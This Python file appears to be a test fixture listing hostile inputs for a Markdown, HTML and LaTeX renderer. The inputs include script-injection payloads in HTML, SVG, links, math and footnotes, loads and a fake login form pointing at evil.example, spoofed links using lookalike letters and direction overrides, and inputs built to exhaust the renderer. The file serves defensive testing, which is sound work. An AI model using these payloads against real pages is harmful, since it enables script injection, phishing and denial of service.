"""Texts that try to run code, to load something, to deceive the reader or to stop the page."""

from itertools import pairwise

RUN = "window.hacked=1"
RLO, PDF, RLI, PDI = "\u202e", "\u202c", "\u2067", "\u2069"

DOUBLING = "".join(f"\\def\\{b}{{\\{a}\\{a}}}" for a, b in pairwise("abcdefghijklmn"))

HTML = {
    "a script": f"<script>{RUN}</script>",
    "a script in capitals": f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>{RUN}</sCrIpT>",
    "an image with a handler": f'<img src=x onerror="{RUN}">',
    "an image of another host": '<img src="https://evil.example/pixel.png">',
    "a frame": '<iframe src="https://evil.example"></iframe>',
    "a frame with a document": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "an object": '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "a style": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "a style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    "a base": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a form": '<form action="https://evil.example"><input name=key><button>Log in</button></form>',
    "a handler of the body": f"<body onload={RUN}>",
    "a details handler": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "an unclosed comment": f"<!-- --!><img src=x onerror={RUN}> -->",
    "CDATA": f"<![CDATA[<img src=x onerror={RUN}>]]>",
    "a template": f"<template><img src=x onerror={RUN}></template><slot onslotchange={RUN}>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
    "HTML after a closed text area": f"</textarea></title></style></noscript><img src=x onerror={RUN}>",
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    "names that replace properties": "<a id=body><a id=prompt name=getElementById><form id=documentElement>",
    "the letter NUL": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "HTML in a list and a heading": f"- <img src=x onerror={RUN}>\n\n> <script>{RUN}</script>\n\n# <svg onload={RUN}>",
    "HTML in a table": f"| <img src=x onerror={RUN}> | b |\n| --- | --- |\n| <svg onload={RUN}> | <script>x</script> |",
}
SVG = {
    "an SVG with a handler": f"<svg onload={RUN}>",
    "an SVG with a script": f"<svg><script>{RUN}</script></svg>",
    "an SVG that animates a link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/></a></svg>',
    "an SVG with a foreign object": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "an SVG that uses another": '<svg><use href="https://evil.example/x.svg#a"/><image href="https://evil.example/x.png"/></svg>',
    "an SVG block of code": f"```svg\n<svg onload={RUN}><script>{RUN}</script></svg>\n```",
}
LINKS = {
    "javascript:": f"[x](javascript:{RUN})",
    "javascript: in capitals": f"[x](JaVaScRiPt:{RUN})",
    "javascript: with entities": f"[x](java&#115;cript&colon;{RUN}) [y](&#x6A;avascript:{RUN})",
    "javascript: with a tab": f"[x](<java\tscript:{RUN}>) [y](java%0ascript:{RUN}) [z](\x01javascript:{RUN})",
    "javascript: in angles": f"<javascript:{RUN}> [x](<javascript:{RUN}>)",
    "javascript: by a reference": f"[x][1] [1]\n\n[1]: javascript:{RUN}",
    "data:": f"[x](data:text/html,<script>{RUN}</script>) [y](data:text/html;base64,PHNjcmlwdD4=)",
    "vbscript:, file: and blob:": "[x](vbscript:x) [y](file:///etc/passwd) [z](blob:https://evil.example/x)",
    "an address of this server": "[x](/v1/conversations) [y](//evil.example) [z](#prompt) [w](?a=b)",
    "a handler in the address": f'[x](https://e.example/"onclick="{RUN}) [y](https://e.example/ "t\\" onclick={RUN}")',
    "an image": "![x](https://evil.example/a.png) ![y](javascript:x) ![z](data:image/svg+xml,<svg/onload=alert(1)>)",
    "an image in a link in an image": "[![x](https://evil.example/a.png)](https://evil.example/b) ![[x](https://evil.example)](y)",
    "an image by a reference": "![x][i]\n\n[i]: https://evil.example/a.png",
    "a link to another host than it says": "[https://bank.example](https://evil.example) [bank.example/login](http://evil.example)",
    "a host before the @": "[x](https://bank.example@evil.example/) https://bank.example:80@evil.example",
    "a host in other letters": "[x](https://аррӏе.example) https://xn--80ak6aa92e.example",
    "a reversed link": f"[{RLO}moc.knab//:sptth{PDF}](https://evil.example) {RLI}[x](https://evil.example){PDI}",
    "an address that runs on": f"https://evil.example/{RLO}gpj.exe {RLO}" + "https://evil.example",
}  # fmt: skip
MATHEMATICS = {
    "a link in a formula": f"$\\href{{javascript:{RUN}}}{{x}}$ $\\url{{javascript:{RUN}}}$",
    "an image in a formula": "$\\includegraphics{https://evil.example/x.png}$",
    "HTML in a formula": f"$\\class{{x}}{{y}} \\id{{prompt}}{{x}} \\data{{a=b}}{{c}}$ $<img src=x onerror={RUN}>$",
    "a style in a formula": "$\\style{position:fixed;top:0}{x} \\color{red;background:url(https://evil.example)}{x}$",
    "a label with the id of the page": "$$x \\tag{1}\\label{prompt}$$ $$y\\label{send}\\tag{2}$$ $\\ref{prompt}$",
    "an endless macro": "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b x}\\b$",
    "a macro that doubles": f"$\\def\\a{{x}}{DOUBLING}\\n$",
    "a huge rule": "$\\rule{99999em}{99999em} \\hspace{-9999em} \\kern-9999em x \\raisebox{9999em}{x}$",
    "a large formula size": "$\\Huge \\Huge x_{x_{x_{x_{x}}}} \\phantom{" + "x" * 2000 + "}$",
    "deep braces": "$" + "{" * 2400 + "x" + "}" * 2400 + "$",
    "deep roots": "$" + "\\sqrt{" * 700 + "x" + "}" * 700 + "$",
    "deep powers": "$" + "x^{" * 1000 + "x" + "}" * 1000 + "$",
    "an open formula": "$$\n" + "\\frac{" * 2000,
    "many dollars": "$" * 20_000 + " " + "$a " * 5000,
    "many brackets of formulas": "\\(" * 10_000 + "\\[" * 10_000,
    "many formulas": "$x$ " * 1500,
    "script in a text of a formula": f"$\\text{{<script>{RUN}</script>}} \\mathrm{{<img src=x onerror={RUN}>}}$",
}  # fmt: skip
CODE = {
    "a fence that is no language": f'```"><img src=x onerror={RUN}>\ncode\n```',
    "a language with HTML": f"```<script>{RUN}</script>\n<b>x</b>\n```\n\n~~~html x\n<img src=x onerror={RUN}>\n~~~",
    "a language of an object": "```constructor\nx\n```\n\n```__proto__\ny\n```\n\n```toString\nz\n```",
    "a long line of code": "```python\n" + "x = '" + "a" * 100_000 + "'\n```",
    "code for slow patterns": "```javascript\n" + "/*" * 4000 + "(" * 4000 + "`${" * 2000 + "\n```",
    "code with hidden directions": f"```python\nif level != 'user{RLO} {RLI}# admin{PDI} {RLI}':\n    pass\n```",
    "an open fence": "```\n" + "x\n" * 20_000,
    "HTML between single marks": f"`<img src=x onerror={RUN}>` ``<script>{RUN}</script>``",
}
FOOTNOTES = {
    "HTML in a footnote": f"x[^<img>] y[^1]\n\n[^1]: <img src=x onerror={RUN}>\n[^<img>]: <script>{RUN}</script>",
    "a footnote of an object": "x[^__proto__] y[^constructor]\n\n[^__proto__]: a\n[^constructor]: b",
    "a footnote that refers to itself": "x[^a]\n\n[^a]: y[^a] [^b]\n[^b]: z[^a]",
    "many footnotes": "".join(f"x[^{n}] " for n in range(1000)) + "\n\n" + "".join(f"[^{n}]: y\n" for n in range(1000)),
    "open footnotes": "[^" * 20_000,
}
DEPTH = {
    "nested quotations": "> " * 20_000 + "x",
    "quotations without blanks": ">" * 20_000 + "x",
    "nested lists": "- " * 20_000 + "x",
    "brackets": "[" * 20_000 + "x" + "]" * 20_000,
    "brackets and parentheses": "[a](" * 20_000,
    "exclamation marks and brackets": "![" * 20_000,
    "stars": "*" * 20_000 + "x" + "*" * 20_000,
    "pairs of stars": "*a **b " * 4000 + "** *" * 4000,
    "underscores": "_a __b " * 8000,
    "tildes": "~~a " * 10_000 + "~" * 10_000,
    "back ticks": " ".join("`" * n for n in range(1, 300)),
    "indented lists": "\n".join("  " * n + "- x" for n in range(800)),
    "open tags of reasoning": "<think>" * 20_000,
    "closing tags of reasoning": "</think>\n" * 20_000,
    "a table of many columns": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + ("|" + "b|" * 2000 + "\n") * 3,
    "open angles": "<" * 20_000 + "<a " * 5000,
    "many references": "".join(f"[{n}]: /x\n" for n in range(5000)) + "[1][2]" * 1000,
    "backslashes": "\\" * 20_001,
    "entities without end": "&" * 20_000 + "&#x" * 5000,
}
SIZE = {
    "a line of 1 MB": "a" * 1_000_000,
    "a line of 1 MB of words": "word **bold** " * 71_000,
    "1 MB of lines": "a\n" * 500_000,
    "1 MB of emphasis": "**a _b_ " * 125_000,
    "1 MB of list items": "- a\n" * 250_000,
    "1 MB of code": "```python\n" + "x = 1\n" * 166_000 + "```",
    "1 MB of addresses": "https://evil.example/a " * 43_000,
    "1 MB of combining characters": "a" + "\u0301" * 500_000,
    "100,000 emoji": "👩‍👩‍👧‍👦" * 14_000,
}
DIRECTION = {
    "an override": f"abc {RLO}def{PDF} ghi",
    "an override without end": f"{RLO}text that goes on",
    "isolates without end": RLI * 2000 + "x",
    "a reversed file name": f"invoice{RLO}fdp.exe",
    "Arabic with code and a link": "مرحبا `rm -rf` و [رابط](https://evil.example) 123 (a)",
    "a mark of direction in a link": "[bank\u200e.example](https://evil.example) [\u200fx](https://evil.example)",
    "invisible characters": "a\u200b\u200c\u200d\u2060\ufeffb \U000e0041\U000e0042",
}
HOSTILE = {**HTML, **SVG, **LINKS, **MATHEMATICS, **CODE, **FOOTNOTES, **DEPTH, **SIZE, **DIRECTION}
